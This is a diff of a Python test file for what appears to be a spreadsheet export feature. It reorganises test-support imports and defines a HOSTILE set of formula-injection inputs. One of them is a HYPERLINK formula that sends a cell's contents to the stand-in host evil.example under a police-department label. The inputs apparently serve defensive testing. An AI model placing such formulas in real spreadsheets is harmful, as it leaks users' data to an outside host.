@@ -10,9 +10,9 @@ import os
 import openpyxl
 
 from storage.export import COLUMNS, current_rows, render
-from tests.conftest import run_cli
+from tests.support.tracker import run_cli
+from tests.support.workbooks import HEADER
 from tests.test_store import apply
-from tests.workbooks import HEADER
 
 HOSTILE = {"LAW ENFORCEMENT AGENCY": '=HYPERLINK("https://evil.example/?"&A1,"Ocala Police Department")',
            "TYPE": "@SUM(1+1)", "COUNTY": "+1-2 County"}
